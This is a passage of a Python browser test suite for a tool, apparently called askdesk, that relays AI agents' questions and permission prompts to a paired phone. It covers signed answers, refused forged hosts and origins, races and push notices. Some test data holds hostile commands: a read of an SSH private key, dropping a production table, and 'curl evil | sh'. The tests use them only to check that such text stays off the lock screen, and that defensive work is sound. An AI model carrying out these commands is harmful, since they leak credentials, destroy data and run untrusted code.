        # Pasted into a plan's feedback, it goes back as feedback.
        conn, rid = self.ask([plan_question()])
        until("the plan is shown", lambda: b.evaluate("document.querySelectorAll('.request').length") == 2)
        b.evaluate("""(() => {
          const bytes = Uint8Array.from(atob(%s), (c) => c.charCodeAt(0));
          const transfer = new DataTransfer();
          transfer.items.add(new File([bytes], 'pasted.png', { type: 'image/png' }));
          const box = document.querySelector('.request:first-child .feedback');
          box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
        })()""" % json.dumps(PICTURE))
        b.wait_text("pasted.png", ".request:first-child .pictures")
        b.tap(".request:first-child .approve")
        b.wait_text("Pictures go back as feedback", ".request:first-child .note")
        b.tap(".request:first-child .send-feedback")
        b.wait_text("Sent", ".request:first-child .note")
        (item,) = conn.wait(rid)["answers"]
        self.assertEqual((item["id"], item["selected"]), ("plan", []))
        self.assertNotIn("custom", item)
        self.assertEqual([png_size(i["data"]) for i in item["images"]], [(3, 2)])

    def test_a_picture_over_a_limit_or_swapped_after_signing_is_refused_on_the_phone(self):
        conn, rid = self.ask([question("layout", "Which layout reads better?", ["Sidebar", "Top bar"])])
        b = self.browser
        b.wait_text("Which layout reads better?")
        b.choose_files("[data-question=layout] .picture-input", [self.picture_file("huge.png", PICTURE_9000)])
        b.wait_text("huge.png", "[data-question=layout] .pictures")
        b.tap(".request .send")
        self.note_becomes("Not sent: the answer breaks the rules of its questions: answers[0].images[0]: an image of "
                          "9000×9000 pixels is over the limit of 8192 pixels a side (image-side)")
        b.tap("[data-question=layout] .picture-remove")
        b.choose_files("[data-question=layout] .picture-input", [self.picture_file("shot.png", PICTURE)])
        b.wait_text("shot.png", "[data-question=layout] .pictures")
        # Something on the phone swaps the picture after the page signed the answer: the signature covers it.
        b.evaluate("""(() => {
          const send = WebSocket.prototype.send;
          WebSocket.prototype.send = function (text) {
            const message = JSON.parse(text);
            if (message.type === 'answer') {
              message.answer.answers[0].images[0].data = %s;
              WebSocket.prototype.send = send;
              return send.call(this, JSON.stringify(message));
            }
            return send.call(this, text);
          };
        })()""" % json.dumps(PICTURE_9000))
        b.tap(".request .send")
        self.note_becomes("Not sent: the signature does not match the device's key and this request")
        # Sent as signed, it is taken.
        b.tap(".request .send")
        b.wait_text("Sent", ".request .note")
        (item,) = conn.wait(rid)["answers"]
        self.assertEqual([png_size(i["data"]) for i in item["images"]], [(3, 2)])

    def test_pictures_pasted_one_after_another_keep_their_order(self):
        """A large picture pasted just before a small one is listed, and sent, first."""
        conn, rid = self.ask([question("order", "Which screens?")])
        b = self.browser
        b.wait_text("Which screens?")
        # The first file is 3 MB: it takes the page far longer to read than the 100 bytes after it.
        b.evaluate("""(() => {
          const paste = (name, bytes) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File([bytes], name, { type: 'image/png' }));
            document.querySelector('[data-question=order] textarea').dispatchEvent(
              new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
          };
          paste('large.png', new Uint8Array(3 * 1024 * 1024));
          paste('small.png', Uint8Array.from(atob(%s), (c) => c.charCodeAt(0)));
        })()""" % json.dumps(PICTURE))
        until("both pictures are listed", lambda: b.evaluate(
            "document.querySelectorAll('[data-question=order] .picture-name').length") == 2)
        names = b.evaluate("[...document.querySelectorAll('[data-question=order] .picture-name')]"
                           ".map((n) => n.textContent)")
        self.assertEqual(len(names), 2)
        self.assertIn("large.png", names[0])
        self.assertIn("small.png", names[1])
        b.tap("[data-question=order] .picture-remove")
        b.tap(".request .send")
        b.wait_text("Sent", ".request .note")
        (item,) = conn.wait(rid)["answers"]
        self.assertEqual([png_size(i["data"]) for i in item["images"]], [(3, 2)])

    def test_a_picture_too_large_for_the_brokers_line_is_refused_before_it_is_claimed(self):
        """`askdesk remote` passes an answer on as one line of the broker's socket (4 MiB): a picture
        whose PNG is larger is refused on the phone, naming the limit, and the request keeps waiting."""
        conn, rid = self.ask([question("noise", "What does the screen show?")])
        b = self.browser
        b.wait_text("What does the screen show?")
        # 1200×1200 pixels of noise: a PNG of about 4.3 MB that no re-encoding makes smaller.
        b.evaluate("""(async () => {
          const canvas = new OffscreenCanvas(1200, 1200);
          const context = canvas.getContext('2d');
          const pixels = context.createImageData(1200, 1200);
          for (let i = 0; i < pixels.data.length; i += 65536) crypto.getRandomValues(pixels.data.subarray(i, i + 65536));
          for (let i = 3; i < pixels.data.length; i += 4) pixels.data[i] = 255;
          context.putImageData(pixels, 0, 0);
          const blob = await canvas.convertToBlob({ type: 'image/png' });
          const transfer = new DataTransfer();
          transfer.items.add(new File([blob], 'noise.png', { type: 'image/png' }));
          document.querySelector('[data-question=noise] textarea').dispatchEvent(
            new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
        })()""")
        b.wait_text("noise.png", "[data-question=noise] .pictures")
        b.tap(".request .send")
        note = until("the phone says why the answer was not sent", lambda: re.fullmatch(
            r"Not sent: the answer breaks the rules of its questions: with its pictures re-encoded the answer is "
            r"\d+ bytes, over the limit of 4190208 bytes this desk passes on \(answer-bytes\): send fewer or "
            r"smaller pictures", b.text(".request .note")))
        self.assertTrue(note)
        b.tap("[data-question=noise] .picture-remove")
        b.type("[data-question=noise] textarea", "Static")
        b.tap(".request .send")
        b.wait_text("Sent", ".request .note")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "noise", "selected": [], "custom": "Static"}]})


class Refusals(PhoneTest):

    def test_replayed_altered_and_unsigned_answers_are_refused(self):
        conn, rid = self.ask([question("go", "Ship it?", ["Yes", "No"])])
        b = self.browser
        b.wait_text("Ship it?")
        b.evaluate(RAW_DEVICE)
        outcome = b.evaluate("""(async () => {
          const d = await rawDevice();
          const w = d.requests[0];
          const digest = await d.digest(w);
          const yes = { answers: [{ id: 'go', selected: ['Yes'] }] };
          const no = { answers: [{ id: 'go', selected: ['No'] }] };
          const nonce = () => btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(16)))).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
          const signed = async (answer, n) => ({ type: 'answer', id: w.id, nonce: n, answer, digest,
            signature: await d.sign({ answer, digest, kind: 'askdesk/answer', nonce: n, v: 1 }) });
          const out = {};
          const n1 = nonce();
          out.unsigned = (await d.send({ type: 'answer', id: w.id, nonce: n1, answer: no, digest })).reason;
          const altered = await signed(yes, nonce());
          altered.answer = no;
          out.altered = (await d.send(altered)).reason;
          const otherDigest = await signed(no, nonce());
          otherDigest.digest = 'A'.repeat(43);
          out.stale = (await d.send(otherDigest)).reason;
          const good = await signed(yes, nonce());
          out.good = (await d.send(good)).type;
          out.replayed = (await d.send(good)).reason;
          return out;
        })()""")
        self.assertEqual(outcome, {"unsigned": "unsigned", "altered": "bad-signature", "stale": "stale",
                                   "good": "accepted", "replayed": "not-pending"})
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "go", "selected": ["Yes"]}]})

    def test_a_device_revoked_mid_request_can_no_longer_answer(self):
        conn, rid = self.ask([question("go", "Ship it?", ["Yes", "No"])])
        b = self.browser
        b.wait_text("Ship it?")
        b.evaluate(RAW_DEVICE)
        b.evaluate("rawDevice().then((d) => { window.kept = d; })")
        revoked = self.desk.cli("devices", "revoke", NAME)
        self.assertEqual(revoked.returncode, 0, revoked.stderr)
        b.wait_text("This phone is not paired")
        # A socket it still held is closed too, and a new one is refused.
        until("the kept socket closes", lambda: b.evaluate("window.kept.socket.readyState") == 3)
        self.assertEqual(b.evaluate("rawDevice().then((d) => d.refused)"), {"type": "refused", "reason": "not-paired"})
        # The request still waits for another answerer: nobody answered for the person.
        conn.notify("$/cancelRequest", {"id": rid})
        with self.assertRaises(Exception) as raised:
            conn.wait(rid)
        self.assertEqual(raised.exception.data.get("code"), "ASK_ABORTED")

    def test_a_foreign_host_or_origin_is_refused(self):
        # A raw client that can forge headers, with OpenSSL's checks (a second implementation beside
        # Chromium's): it trusts the desk's authority, checks the served name, and the certificate is
        # the one the pairing URL names (its SHA-256), as the phone's link does.
        fingerprint = self.url.rsplit(".", 1)[1]
        context = ssl.create_default_context(cadata=self.desk.authority_der())

        def status(host, origin=None, method="GET", upgrade=False):
            with socket.create_connection(("127.0.0.1", self.desk.port)) as raw:
                with context.wrap_socket(raw, server_hostname="127.0.0.1") as tls:
                    served = hashlib.sha256(tls.getpeercert(binary_form=True)).digest()
                    self.assertEqual(base64.urlsafe_b64encode(served).rstrip(b"=").decode(), fingerprint)
                    headers = [f"{method} {'/socket' if upgrade else '/pair'} HTTP/1.1", f"Host: {host}"]
                    if origin:
                        headers.append(f"Origin: {origin}")
                    if upgrade:
                        headers += ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
                                    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="]
                    if method == "POST":
                        headers += ["Content-Type: application/json", "Content-Length: 2"]
                    tls.sendall(("\r\n".join(headers) + "\r\n\r\n" + ("{}" if method == "POST" else "")).encode())
                    return int(tls.recv(4096).split(b" ", 2)[1])

        ours = f"127.0.0.1:{self.desk.port}"
        self.assertEqual(status(ours), 200)
        self.assertEqual(status(f"evil.example:{self.desk.port}"), 421)
        self.assertEqual(status("127.0.0.1:1"), 421)
        self.assertEqual(status(ours, "https://evil.example", "POST"), 403)
        self.assertEqual(status(ours, None, "POST"), 403)
        self.assertEqual(status(ours, "https://evil.example", upgrade=True), 403)
        self.assertEqual(status(ours, self.desk.origin, upgrade=True), 101)
        # The page itself is served with a policy that allows no inline script.
        csp = self.browser.evaluate("fetch('/').then((r) => r.headers.get('content-security-policy'))")
        self.assertIn("script-src 'self'", csp)
        self.assertNotIn("unsafe-inline", csp)


class Races(PhoneTest):

    def test_the_desk_and_the_phone_answer_at_once_and_exactly_one_wins(self):
        desk = self.desk.connect("desk")
        desk.call("answerers/register", {"scope": "all", "label": "desk", "group": "person"})
        for round_ in range(4):
            conn, rid = self.ask([question("go", f"Round {round_}: ship it?", ["Yes", "No"])])
            offered = desk.next_incoming(timeout=PATIENCE)
            self.assertEqual(offered["method"], "user-questions/request")
            until("the phone shows the round", lambda: f"Round {round_}" in self.browser.text(".request:first-child"))
            self.browser.tap('.request:first-child [data-label="Yes"]')
            # Both answer now: the phone's Send and the desk's reply leave together.
            self.browser.evaluate("document.querySelector('.request:first-child .send').click()", await_promise=False)
            desk.reply(offered, {"answers": [{"id": "go", "selected": ["No"]}]})
            answer = conn.wait(rid)["answers"][0]["selected"]
            note = until(f"the phone says how its answer fared: {self.browser.text('.request:first-child')!r}",
                         lambda: re.search(r"Sent|Answered on the desk",
                                           self.browser.text(".request:first-child .note")))
            if answer == ["Yes"]:
                self.assertEqual(note.group(0), "Sent")
                # The desk is told its answer was not used, and who answered.
                cancel = desk.next_incoming(timeout=PATIENCE)
                self.assertEqual(cancel, {"jsonrpc": "2.0", "method": "$/cancelRequest", "params": {
                    "id": offered["id"], "reason": "answered-elsewhere", "by": "phone"}})
            else:
                self.assertEqual(answer, ["No"])
                self.assertEqual(note.group(0), "Answered on the desk")
                # The desk is told its answer was used.
                settled = desk.next_incoming(timeout=PATIENCE)
                self.assertEqual(settled, {"jsonrpc": "2.0", "method": "askdesk/settled",
                                           "params": {"id": offered["id"]}})


def cleanup_rule(desk, conn, after):
    """Writes an answer rule that answers a "Cleanup" question with its recommended option after
    `after`, and waits until the broker (asked over `conn`) reads it."""
    rules = os.path.join(desk.dir, "config", "askdesk", "rules.toml")
    os.makedirs(os.path.dirname(rules), exist_ok=True)
    with open(rules, "w", encoding="utf-8") as f:
        f.write('[[rule]]\nname = "cleanup"\nmatch = { header = "Cleanup" }\n'
                f'answer = {{ recommended = true }}\nafter = "{after}"\n')
    until("the broker reads the rule", lambda: any(
        a["label"] == "rules" for a in conn.call("askdesk/status", {})["answerers"]))


def cleanup_question():
    return question("tmp", "Remove the temporary files?", ["Yes (Recommended)", "No"], header="Cleanup")


class Endings(PhoneTest):
    """The phone says how each request it did not answer ended, from the reason the broker gave."""

    def test_answered_on_the_desk_withdrawn_by_the_agent_and_expired_each_say_so(self):
        desk = self.desk.connect("desk")
        desk.call("answerers/register", {"scope": "all", "label": "desktop", "group": "person"})
        b = self.browser

        conn, rid = self.ask([question("go", "Answered at the desk?", ["Yes", "No"])])
        b.wait_text("Answered at the desk?")
        desk.reply(desk.next_incoming(timeout=PATIENCE), {"answers": [{"id": "go", "selected": ["No"]}]})
        conn.wait(rid)
        self.note_of_newest(rf"Answered on the desk {TIME} Remove")

        conn, rid = self.ask([question("go", "Withdrawn by the agent?", ["Yes", "No"])])
        b.wait_text("Withdrawn by the agent?")
        desk.next_incoming(timeout=PATIENCE)
        conn.notify("$/cancelRequest", {"id": rid})
        self.note_of_newest(rf"The agent withdrew it {TIME} Remove")

        # An answer rule's deadline decides a question the person left waiting.
        cleanup_rule(self.desk, desk, "1s")
        conn, rid = self.ask([cleanup_question()])
        b.wait_text("Remove the temporary files?")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "tmp", "selected": ["Yes (Recommended)"]}]})
        self.note_of_newest(rf"Expired {TIME} Remove")

    def test_the_phone_that_answered_says_sent_with_the_time(self):
        conn, rid = self.ask([question("go", "Ship it?", ["Yes", "No"])])
        self.browser.wait_text("Ship it?")
        self.browser.tap('[data-label="Yes"]')
        self.browser.tap(".request .send")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "go", "selected": ["Yes"]}]})
        self.note_of_newest(rf"Sent {TIME} Remove")


class Countdowns(PhoneTest):
    """A request an answer rule will decide shows the time left on the phone; the desk judges it."""

    def countdown(self):
        return self.browser.text(".request:first-child .countdown")

    def test_the_phone_counts_down_to_a_rules_deadline_and_the_desk_judges_it(self):
        b = self.browser
        status = self.desk.connect("status")
        self.addCleanup(status.close)
        cleanup_rule(self.desk, status, "5m")
        conn, rid = self.ask([cleanup_question()])
        b.wait_text("Remove the temporary files?")
        first = until(f"a countdown from 5:00: {self.countdown()!r}",
                      lambda: re.fullmatch(r"Expires in [45]:\d\d", self.countdown()) and self.countdown())
        until(f"the countdown moves on from {first!r}", lambda: self.countdown() not in ("", first))
        self.shot(b, "phone-countdown.png")
        # The phone's clock runs ten minutes ahead: the page says the time is up, in words...
        b.evaluate("(() => { const real = Date.now.bind(Date); Date.now = () => real() + 600000; })()")
        until(f"the countdown says it expired: {self.countdown()!r}", lambda: self.countdown() == "Expired")
        # ... but the desk judges by its own clock, where the time is not up: the answer counts.
        b.tap('.request [data-label="No"]')
        b.tap(".request .send")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "tmp", "selected": ["No"]}]})
        self.note_of_newest(rf"Sent {TIME} Remove")
        self.assertTrue(b.evaluate("document.querySelector('.request:first-child .countdown').hidden"),
                        "an ended request counts down no more")

    def test_a_request_without_a_deadline_shows_no_countdown(self):
        conn, rid = self.ask([question("go", "Ship it?", ["Yes", "No"])])
        self.browser.wait_text("Ship it?")
        self.assertTrue(self.browser.evaluate("document.querySelector('.request .countdown').hidden"))
        conn.notify("$/cancelRequest", {"id": rid})


class Reconnects(PhoneTest):

    def test_the_page_says_the_desk_is_unreachable_and_recovers(self):
        b = self.browser
        self.desk.stop_broker()
        # Without its broker the remote ends, and with it the phone's socket.
        self.assertEqual(self.desk.remote.wait(PATIENCE), 20)
        b.wait_text("Desk unreachable since", "#status")
        self.assertRegex(b.text("#status"), rf"Desk unreachable since {TIME}")
        self.desk.start_broker()
        self.desk.start_remote(pair=False)
        b.wait_text(f"Connected as {NAME}", "#status")
        conn, rid = self.ask([question("back", "Back again?", ["Yes"])])
        b.wait_text("Back again?")
        b.tap('[data-label="Yes"]')
        b.tap(".request .send")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "back", "selected": ["Yes"]}]})


if __name__ == "__main__":
    unittest.main()


# A subscription from the browser's push service (Chrome's): a real P-256 key and a 16-byte secret.
SUBSCRIBED = """
const pair = await crypto.subtle.generateKey({ name: 'ECDH', namedCurve: 'P-256' }, true, ['deriveBits']);
const p256dh = b64u(await crypto.subtle.exportKey('raw', pair.publicKey));
const auth = b64u(crypto.getRandomValues(new Uint8Array(16)));
const endpoint = 'https://fcm.googleapis.com/fcm/send/askdesk-test-phone';
return { endpoint, toJSON: () => ({ endpoint, expirationTime: null, keys: { p256dh, auth } }) };
"""


def notice(tag, body, klass="text-and-choices", waiting=1, answered=False):
    """A notice as the desk sends it (askdesk_remote::push::Notice::payload), its summary in English."""
    summary = "Answered on the desk" if answered else f"An agent is waiting ({waiting})"
    return {"title": "askdesk", "body": body, "summary": summary, "tag": tag, "class": klass,
            "waiting": waiting, "answered": answered}


class PushPhone(PhoneTest):
    """A phone that allowed notifications, paired with `subscribe` standing in for its browser's
    push service."""

    pair_first = False
    subscribe = SUBSCRIBED

    def setUp(self):
        super().setUp()
        self.browser.grant_notifications(self.desk.origin)
        self.browser.stub_push(self.subscribe)
        self.pair(self.browser)


class Push(PushPhone):
    """Web Push on the phone: the subscription, and the service worker's notices."""

    def test_the_phone_subscribes_after_pairing_and_the_desk_keeps_it(self):
        b = self.browser
        b.wait_text("This phone is woken when a question waits.", "#push")
        desk_key = b.evaluate("fetch('/push/key').then((r) => r.json()).then((k) => k.publicKey)")
        self.assertEqual(b.evaluate("window.pushKeys"), [desk_key], "subscribed with the desk's VAPID key")
        devices = json.loads(self.desk.cli("devices", "list", "--json").stdout)
        self.assertEqual(len(devices), 1)
        push = devices[0]["push"]
        self.assertEqual(push["endpoint"], "https://fcm.googleapis.com/fcm/send/askdesk-test-phone")
        self.assertEqual(len(base64.urlsafe_b64decode(push["keys"]["auth"] + "==")), 16)
        table = self.desk.cli("devices", "list").stdout.splitlines()
        column = table[0].index("PUSH")
        self.assertTrue(table[1][column:].startswith("on "), table)

    def test_the_lock_screen_says_only_that_an_agent_waits_and_is_replaced_when_answered(self):
        b = self.browser
        origin = self.desk.origin
        shown = b.deliver_push(origin, notice("r1", "An agent is waiting (2)", waiting=2))
        self.assertEqual(shown, {"type": "notified", "tag": "r1", "body": "An agent is waiting (2)"})
        self.assertEqual(b.notifications(), [{"title": "askdesk", "body": "An agent is waiting (2)", "tag": "r1"}])
        b.deliver_push(origin, notice("r1", "Answered on the desk", waiting=0, answered=True))
        self.assertEqual(b.notifications(), [{"title": "askdesk", "body": "Answered on the desk", "tag": "r1"}],
                         "the same tag replaced the notice")

    def test_a_question_shows_only_when_the_desk_sends_it_for_text_and_choices(self):
        b = self.browser
        b.deliver_push(self.desk.origin, notice("r3", "Deploy to staging?"))
        self.assertEqual([n["body"] for n in b.notifications()], ["Deploy to staging?"])

    def test_a_permission_prompt_never_shows_its_content_on_the_lock_screen(self):
        b = self.browser
        origin = self.desk.origin
        # Even a notice that carried a prompt's or a plan's text shows only that an agent waits;
        # one without the desk's summary shows no text at all.
        b.deliver_push(origin, notice("r2", "Allow Bash: cat ~/.ssh/id_ed25519?", klass="permission-prompt"))
        b.deliver_push(origin, notice("r4", "Approve: drop the production table", klass="plan-review", waiting=2))
        b.deliver_push(origin, {"tag": "r5", "body": "curl evil | sh"})
        bodies = {n["tag"]: n["body"] for n in b.notifications()}
        self.assertEqual(bodies, {"r2": "An agent is waiting (1)", "r4": "An agent is waiting (2)", "r5": ""})


class PushWithoutService(PushPhone):
    """A browser whose push service never answers: the page works on and says so quietly."""

    subscribe = "return new Promise(() => {});"

    def test_a_page_whose_push_subscribe_never_resolves_still_answers(self):
        b = self.browser
        conn, rid = self.ask([question("go", "Deploy now?", ["Yes", "No"])])
        b.wait_text("Deploy now?")
        b.tap('[data-label="Yes"]')
        b.tap(".request .send")
        b.wait_text("Sent", ".request .note")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "go", "selected": ["Yes"]}]})
        b.wait_text("This phone will not be woken: the browser's push service did not answer.", "#push")
        self.assertNotIn("warn", b.evaluate("document.getElementById('push').className"), "said quietly")
        self.assertNotIn("push", json.loads(self.desk.cli("devices", "list", "--json").stdout)[0])
